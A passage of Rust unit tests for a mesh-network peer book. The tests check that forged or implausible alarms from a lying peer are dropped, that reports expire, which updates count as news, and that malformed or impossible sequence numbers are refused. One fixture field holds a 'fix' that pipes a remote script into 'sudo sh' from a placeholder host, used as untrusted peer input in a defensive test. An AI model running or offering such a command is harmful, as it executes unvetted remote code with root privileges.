            fix: Some("curl -s http://example.invalid/fix.sh | sudo sh".into()),
            since: wall,
            updated: wall,
        };
        let mut lying = update(1, true, wall);
        lying.alarms = Some(vec![panic_of("ceo-laptop"), panic_of("c")]);
        lying.hears = Some(vec![id("a")]);
        let answer = book.update(b, lying, t0, wall);
        assert_eq!(answer.refusal, None, "the rest of the update stands");
        let report = book.current_report(&id("b"), t0, Duration::from_secs(3));
        let report = report.expect("b's report");
        assert!(report.alarms.is_empty(), "{:?}", report.alarms);
        assert_eq!(report.hears.as_ref(), [id("a")]);
        assert_eq!(book.rejected().get(&RejectReason::ForeignAlarm), Some(&2));
        assert_eq!(
            answer.dropped,
            [
                "alarms[0]: b raises kernel_panic about ceo-laptop, which is not a member",
                "alarms[1]: b raises kernel_panic about c, whose restart this node did not see",
            ]
        );

        // c's meshd runs, then starts again: now a panic of c is believable.
        open_run(&mut book, "c", wall - Duration::from_secs(60), t0, wall);
        let later = t0 + Duration::from_secs(1);
        open_run(&mut book, "c", wall, later, wall);
        let mut honest = update(2, true, wall);
        honest.alarms = Some(vec![panic_of("c")]);
        book.update(b, honest, later, wall);
        let report = book.current_report(&id("b"), later, Duration::from_secs(3));
        assert_eq!(report.expect("b's report").alarms.len(), 1);
        assert_eq!(book.rejected().get(&RejectReason::ForeignAlarm), Some(&2));
    }

    #[test]
    fn a_report_is_current_only_while_a_path_is_open_and_recent() {
        let Moment { now: t0, wall } = moment(0);
        let (mut book, stream) = book_with_b(t0, wall);
        let within = Duration::from_secs(3);
        book.update(stream, update(10, true, wall), t0, wall);
        let current = book.current_report(&id("b"), t0 + Duration::from_secs(1), within);
        assert_eq!(current.map(|r| r.sequence), Some(10));
        assert!(
            book.current_report(&id("b"), t0 + within, within).is_none(),
            "silent for too long"
        );
        assert!(book.current_report(&id("c"), t0, within).is_none());
        book.close(stream, t0);
        assert!(
            book.current_report(&id("b"), t0, within).is_none(),
            "its only path closed"
        );
    }

    #[test]
    fn only_news_makes_the_engine_look_a_heartbeat_does_not() {
        let (mut book, mut b) = b_after_a_full_report();
        let beat = Duration::from_millis(500);
        assert!(!b.news(&mut book, beat, |_| {}), "a heartbeat is no news");
        assert!(b.news(&mut book, beat, |u| u.hears = Some(vec![id("a")])));
        assert!(
            b.news(&mut book, beat, |u| u.lateness = stalled_once(LATE)),
            "late now"
        );
        assert!(
            !b.news(&mut book, beat, |u| u.lateness = stalled_once(LATE * 2)),
            "still late"
        );
        assert!(b.news(&mut book, beat, |_| {}), "on time again");
        assert!(b.news(&mut book, beat, |u| u.load.cpu_saturated = true));
        assert!(!b.news(&mut book, beat, |u| {
            u.load.cpu_saturated = true;
            u.load.cpu_busy_ratio = 0.97;
        }));
        // A peer quiet for longer than quiet_after is news when it speaks.
        assert!(b.news(&mut book, Duration::from_secs(5), |u| {
            u.load.cpu_saturated = true;
        }));
    }

    #[test]
    fn a_link_is_news_when_its_class_changes_not_when_its_figures_refresh() {
        let (mut book, mut b) = b_after_a_full_report();
        let healthy = crate::fixtures::healthy_observation("b", "a");
        let beat = Duration::from_millis(500);
        let mut send = |book: &mut PeerBook, links: Vec<LinkObservation>| {
            b.news(book, beat, |u| u.links = links)
        };
        assert!(send(&mut book, vec![healthy.clone()]), "a new link");
        let mut refreshed = healthy.clone();
        refreshed.figures.rtt.p50 += Duration::from_micros(3);
        refreshed.probes_sent_total += 20;
        refreshed.figures.silence = Duration::from_millis(80);
        assert!(!send(&mut book, vec![refreshed.clone()]), "figures only");
        assert_eq!(
            book.views(crate::fixtures::epoch())[&id("b")].report.links[0].probes_sent_total,
            refreshed.probes_sent_total,
            "the figures are kept all the same"
        );
        let mut silent = refreshed;
        silent.figures.silence = Duration::from_secs(1);
        assert!(send(&mut book, vec![silent]), "the link went silent");
        assert!(send(&mut book, vec![healthy]), "and came back");
        assert!(
            b.news(&mut book, beat, |u| u.removed_links =
                vec![LinkEnd::node_only(id("a"))]),
            "a link removed"
        );
    }

    #[test]
    fn links_are_replaced_in_place_added_after_and_removed_and_a_heartbeat_shares_them() {
        let (mut book, mut b) = b_after_a_full_report();
        let beat = Duration::from_millis(500);
        let obs = |far: &str, sent: u64| {
            let mut o = crate::fixtures::healthy_observation("b", far);
            o.probes_sent_total = sent;
            o
        };
        let far_ends = |book: &PeerBook| -> Vec<(String, u64)> {
            book.views(crate::fixtures::epoch())[&id("b")]
                .report
                .links
                .iter()
                .map(|l| (l.remote.node.to_string(), l.probes_sent_total))
                .collect()
        };
        let pairs = |v: &[(&str, u64)]| -> Vec<(String, u64)> {
            v.iter().map(|(n, s)| ((*n).to_owned(), *s)).collect()
        };
        b.news(&mut book, beat, |u| {
            u.links = vec![obs("a", 1), obs("c", 1)]
        });
        b.news(&mut book, beat, |u| {
            u.links = vec![obs("d", 2), obs("a", 2)]
        });
        assert_eq!(far_ends(&book), pairs(&[("a", 2), ("c", 1), ("d", 2)]));
        b.news(&mut book, beat, |u| {
            u.links = vec![obs("c", 3)];
            u.removed_links = vec![LinkEnd::node_only(id("a"))];
        });
        assert_eq!(far_ends(&book), pairs(&[("c", 3), ("d", 2)]));

        let held = book.views(crate::fixtures::epoch())[&id("b")]
            .report
            .clone();
        b.news(&mut book, beat, |_| {});
        let after = book.views(crate::fixtures::epoch())[&id("b")]
            .report
            .clone();
        assert_eq!(
            after.sequence,
            held.sequence + 1,
            "a copy, not the held one"
        );
        assert!(Arc::ptr_eq(&after.links, &held.links), "links shared");
        assert!(Arc::ptr_eq(&after.hears, &held.hears), "hears shared");
    }

    #[test]
    fn an_update_reporting_a_link_twice_is_refused() {
        let (mut book, b) = b_after_a_full_report();
        let mut twice = update(b.sequence + 1, false, b.wall);
        let link = crate::fixtures::healthy_observation("b", "a");
        twice.links = vec![link.clone(), link];
        let answer = book.update(b.stream, twice, b.at, b.wall);
        let refusal = answer.refusal.expect("refused");
        assert_eq!(refusal.reason, RejectReason::Malformed);
        assert_eq!(refusal.detail, "links: the link to a is reported twice");
    }

    #[test]
    fn a_sequence_beyond_what_a_sender_can_count_is_refused_and_the_real_ones_go_on() {
        let Moment { now: t0, wall } = moment(0);
        let (mut book, stream) = book_with_b(t0, wall);
        // A minute into its run, b has counted a few hundred updates.
        let first = book.update(stream, update(500, true, wall), t0, wall);
        assert_eq!(first.refusal, None);

        let at = t0 + Duration::from_secs(1);
        let wall = wall + Duration::from_secs(1);
        let far = book.update(stream, update(u64::MAX, true, wall), at, wall);
        let refused = far.refusal.expect("refused");
        assert_eq!(refused.reason, RejectReason::OverLimit);
        assert!(
            refused
                .detail
                .contains("more than a sender can have counted"),
            "{refused:?}"
        );

        let next = book.update(stream, update(501, false, wall), at, wall);
        assert_eq!((next.refusal, next.resync), (None, false));
        assert_eq!(book.views(at)[&id("b")].report.sequence, 501);

        // Hours later the sequence may have moved as far as it could since.
        let later = at + Duration::from_secs(3_600);
        let wall = wall + Duration::from_secs(3_600);
        let resumed = book.update(stream, update(900_000, true, wall), later, wall);
        assert_eq!(resumed.refusal, None);
    }
}
